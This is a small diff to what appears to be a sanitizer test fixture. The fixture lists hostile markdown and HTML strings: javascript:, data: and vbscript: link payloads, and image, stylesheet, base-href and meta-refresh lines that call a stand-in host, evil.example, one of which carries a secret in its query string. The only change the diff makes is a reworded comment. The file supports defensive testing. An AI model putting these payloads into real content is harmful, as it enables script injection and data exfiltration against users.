@@ -18,7 +18,7 @@ export const hostileTexts = [
   '[a link](javascript:alert(1)) [one](JaVaScRiPt:alert(1)) [two](java\tscript:alert(1)) [three](&#106;avascript:alert(1))',
   '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:alert(1)) [in](<javascript:alert(1)>)',
   '![picture](javascript:alert(1)) <a href="javascript:alert(1)">here</a> <form><button formaction="javascript:alert(1)">go</button></form>',
-  // Addresses that tell somebody.
+  // Addresses that tell someone.
   '![pixel](https://evil.example/pixel.png?said=secret) <img src="https://evil.example/a.png">',
   '<style>@import "https://evil.example/x.css"</style><link rel=stylesheet href=https://evil.example/y.css>',
   '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
